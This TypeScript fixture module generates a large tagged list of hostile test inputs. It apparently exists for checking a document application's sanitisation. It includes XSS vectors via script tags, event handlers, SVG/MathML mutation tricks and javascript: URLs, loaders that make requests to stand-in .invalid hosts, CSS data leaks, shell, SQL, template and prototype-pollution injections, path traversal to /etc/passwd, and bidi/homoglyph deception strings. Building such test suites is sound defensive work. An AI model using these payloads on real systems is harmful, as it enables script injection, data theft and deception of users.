/** A text that does harm where it is taken for more than a text. */
export interface HostilePayload {
  /** Stands in the text itself, and in every trace that it could leave. */
  readonly token: string;
  readonly text: string;
  /** Whether it becomes elements where it is taken for HTML. */
  readonly isMarkup: boolean;
}

/** The function that a payload calls where it comes to run. */
export const trapName = 'pwned';

/** Makes a text: `run` is script that springs the trap, `away` an address that a request would go to, `here` a name. */
type Recipe = (run: string, away: string, here: string) => string;

const scripts: readonly Recipe[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT>${run}</SCRIPT>`,
  (run) => `<ScRiPt type="text/javascript">${run}</sCrIpT>`,
  (run) => `<script\t>${run}</script\t>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<script>${run}`,
  (run) => `</script><script>${run}</script>`,
  (_run, away) => `<script src=${away}x.js></script>`,
  (_run, away) => `<script type=module>import '${away}m.js'</script>`,
  (run) => `<script async src="data:text/javascript,${run}"></script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'></textarea><script>${run}</script>`,
  (run) => `</title></style></noscript></template><script>${run}</script>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (_run, away) => `<script type=speculationrules>{"prefetch":[{"urls":["${away}s"]}]}</script>`,
];

const handlers: readonly Recipe[] = [
  (run, _away, here) => `<img src=${here} onerror=${run}>`,
  (run, _away, here) => `<img src="${here}" OnErRoR="${run}">`,
  (run, _away, here) => `<img/src='${here}'/onerror='${run}'/>`,
  (run, _away, here) => `<img src=${here}\tonerror\t=\t${run}>`,
  (run, _away, here) => `<image src=${here} onerror=${run}>`,
  (run) => `<body onload=${run}><input autofocus onfocus=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>细目`,
  (run) => `<marquee onstart=${run}>滚动</marquee>`,
  (run, _away, here) => `<video><source src=${here} onerror=${run}></video>`,
  (run, _away, here) => `<audio src=${here} onerror=${run}>`,
  (run) => `<select autofocus onfocus=${run}><option>甲</select>`,
  (run) => `<textarea autofocus onfocus=${run}>`,
  (run) => `<a href=# onclick=${run} onmouseover=${run}>第一条</a>`,
  (run) => `<p style="animation:skeleton 1ms" onanimationstart=${run}>动</p>`,
  (run) => `<xss contenteditable autofocus tabindex=0 onfocus=${run}>甲</xss>`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}`,
  (run) => `<div onbeforetoggle=${run} popover id=x></div><button popovertarget=x>甲</button>`,
  (run) => `<form><button formaction=javascript:${run}>送审</button></form>`,
];

const foreign: readonly Recipe[] = [
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>甲</text></a></svg>`,
  (run) => `<svg><animate attributeName=href values=javascript:${run} /><a id=x><text>甲</text></a></svg>`,
  (_run, away) => `<svg><image href="${away}i.svg"/></svg>`,
  (_run, away) => `<svg><use href="${away}u.svg#a"/></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><set onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<math><maction actiontype=statusline xlink:href=javascript:${run}>甲</maction></math>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (_run, away) => `<math><mi href="${away}">x</mi></math>`,
];

const loaders: readonly Recipe[] = [
  (run) => `<iframe src=javascript:${run}></iframe>`,
  (_run, away) => `<iframe src="${away}f"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  (_run, away) => `<object data="${away}o"></object>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (_run, away) => `<embed src="${away}e">`,
  (_run, away) => `<link rel=stylesheet href="${away}s.css">`,
  (_run, away) => `<link rel=prefetch href="${away}p"><link rel=preconnect href="${away}">`,
  (_run, away) => `<base href="${away}">`,
  (_run, away) => `<meta http-equiv=refresh content="0;url=${away}r">`,
  (_run, away) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri ${away}">`,
  (_run, away) => `<img src="${away}i.png">`,
  (_run, away) => `<img src=//${away.slice(8)}i.png>`,
  (_run, away) => `<img srcset="${away}1.png 1x, ${away}2.png 2x">`,
  (_run, away) => `<picture><source srcset="${away}p.webp"><img alt=甲></picture>`,
  (_run, away) => `<video poster="${away}p.png" src="${away}v.mp4" autoplay></video>`,
  (_run, away) => `<audio autoplay src="${away}a.mp3"></audio><track src="${away}t.vtt">`,
  (_run, away) => `<form action="${away}f" method=post><input name=x><button>签发</button></form>`,
  (_run, away) => `<input type=image src="${away}i.png">`,
  (_run, away) => `<table background="${away}b.png"><tr><td background="${away}c.png">甲</table>`,
  (_run, away) => `<a ping="${away}" href="${away}a" target=_blank>国务院令</a>`,
  (_run, away) => `<portal src="${away}"></portal><fencedframe src="${away}"></fencedframe>`,
  (_run, away) => `<frameset><frame src="${away}"></frameset><img src="${away}g.gif">`,
];

const styles: readonly Recipe[] = [
  (_run, away) => `<style>@import "${away}i.css";</style>`,
  (_run, away) => `<style>*{background:url(${away}b.png)}</style>`,
  (_run, away) => `<div style="background-image:url('${away}b.png')">甲</div>`,
  (_run, away) => `<style>@font-face{font-family:x;src:url(${away}f.woff2)}p{font-family:x}</style>`,
  (_run, away) => `<style>input[value^="a"]{background:url(${away}a)}</style>`,
  (run) => `<div style="width:expression(${run});behavior:url(#default#time2)">甲</div>`,
  (_run, _away, here) => `<div id=${here} style="position:fixed;inset:0;z-index:9999;background:#fff">签名有效</div>`,
  (_run, away) => `</style><style>@import url(${away}j.css)`,
  (_run, away) => `;}*{color:red;background:url(${away}k)}/*`,
];

const addresses: readonly Recipe[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `vbscript:${run}`,
  (_run, _away, here) => `file:///etc/passwd?${here}`,
  (_run, _away, here) => `file://server/share/${here}.html`,
  (_run, away) => `${away}x`,
  (_run, away) => `//${away.slice(8)}x`,
  (_run, _away, here) => `app://desk/../../${here}`,
  (_run, _away, here) => `blob:https://desk.invalid/${here}`,
  (_run, _away, here) => `\\\\server\\share\\${here}`,
  (_run, _away, here) => `ms-word:ofe|u|https://${here}.invalid/a.docx`,
];

const markdown: readonly Recipe[] = [
  (_run, away) => `![图](${away}m.png)`,
  (run) => `[第一条](javascript:${run})`,
  (_run, away) => `<${away}auto>`,
  (_run, away) => `[a][r] ![b][r]\n\n[r]: ${away}ref`,
  (run) => `[a](data:text/html,<script>${run}</script> "标题")`,
  (run) => `<img src=x onerror=${run}>\n\n**重**`,
  (_run, away) => `[![a](${away}i.png)](${away}l)`,
];

const confusions: readonly Recipe[] = [
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${run}"?><b>甲</b>`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  (run) => `<x-desk is=x-desk onclick=${run}><slot></slot></x-desk>`,
  (_run, _away, here) => `<form id=desk name=${here}><input name=invoke><input name=subscribe></form>`,
  (_run, _away, here) => `<a id=desk></a><a id=desk name=invoke href="cid:${here}"></a>`,
  (_run, _away, here) => `<img name=getElementById alt=${here}><img name=createElement>`,
  (_run, _away, here) => `<meta name=csp-nonce property=csp-nonce nonce=${here}>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  (run) => `<select><template><style></select><img src=x onerror=${run}></style>`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
  (run) => `<xmp><p title="</xmp><svg/onload=${run}>">`,
  (run) => `<a title="\`><img src=x onerror=${run}>">甲</a>`,
];

const encodings: readonly Recipe[] = [
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `&#x3c;svg onload=${run}&#x3e;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  (_run, _away, here) => `&nbsp;&copy;&${here};&NewLine;&colon;`,
];

const programs: readonly Recipe[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>#{${run}}*{${run}}`,
  (run) => `');${run};//`,
  (run) => `";${run};"`,
  (run) => `\`;${run};\``,
  (_run, _away, here) => `__proto__ ${here}`,
  (_run, _away, here) => `constructor.prototype.${here}`,
  (_run, _away, here) => `toString ${here} hasOwnProperty`,
  (_run, _away, here) => `{"__proto__":{"${here}":true}}`,
  (_run, _away, here) => `' OR '1'='1' -- ${here}`,
  (_run, _away, here) => `=HYPERLINK("https://${here}.invalid/","法规")`,
  (_run, _away, here) => `$(touch ${here}) ; |cat #`,
  (_run, _away, here) => `%s%n%p%x %1$s ${here} {0} $& $1`,
  (_run, _away, here) => `\u001b[2J\u001b]8;;https://${here}.invalid/\u0007链接\u001b]8;;\u0007\u001b[31m`,
  (_run, _away, here) => `../../../etc/${here}`,
  (_run, _away, here) => `..\\..\\${here}.lnk`,
  (_run, _away, here) => `CON NUL ${here} :$DATA`,
];

const deceptions: readonly Recipe[] = [
  (_run, _away, here) => `${here} 送审稿\u202efdp.exe`,
  (_run, _away, here) => `${here} \u2067不得\u2066应当\u2069`,
  (_run, _away, here) => `${here} \u202d\u202e罚款一百元\u202c`,
  (_run, _away, here) => `${here} \u061c\u200f\u200e第\u200b一\u2060条\ufeff`,
  (_run, _away, here) => `${here} аdmіn раураl（西里尔字母）`,
  (_run, _away, here) => `${here} שלום.pdf`,
  (_run, _away, here) => `${here}\u0000之后\u0000`,
  (_run, _away, here) => `${here}\u0008\u0008\u0008\u007f\u0085\u009b`,
  (_run, _away, here) => `${here} Z${'\u0300\u0316\u0334'.repeat(20)}`,
  (_run, _away, here) => `${here} ${'长'.repeat(300)}`,
  (_run, _away, here) => `${here}${'x'.repeat(400)}`,
  (_run, _away, here) => `${here} \u2028行\u2029段\u000b\u000c`,
  (_run, _away, here) => `${here} 👩‍⚖️\u{e0041}\u{e007f}\ufffd\uffff`,
  (_run, _away, here) => `${here}　签名有效 ✓ 内容未改动`,
];

const groups: readonly (readonly [isMarkup: boolean, recipes: readonly Recipe[]])[] = [
  [true, scripts],
  [true, handlers.slice(0, 16)],
  [false, handlers.slice(16, 18)],
  [true, handlers.slice(18)],
  [true, foreign],
  [true, loaders.slice(0, 22)],
  [true, loaders.slice(22)],
  [true, styles.slice(0, 7)],
  [true, styles.slice(7, 8)],
  [false, styles.slice(8)],
  [false, addresses],
  [false, markdown],
  [true, confusions],
  [false, encodings],
  [false, programs],
  [false, deceptions],
];

/** Texts that do harm where they are taken for markup, an address, a program or a name; each with a token of its own. */
export const hostilePayloads: readonly HostilePayload[] = groups
  .flatMap(([isMarkup, recipes]) => recipes.map((recipe) => ({ isMarkup, recipe })))
  .map(({ isMarkup, recipe }, index) => {
    const token = `pw${String(index + 1).padStart(3, '0')}`;
    const text = recipe(`${trapName}('${token}')`, `https://${token}.invalid/`, token);
    return { token, text, isMarkup };
  });
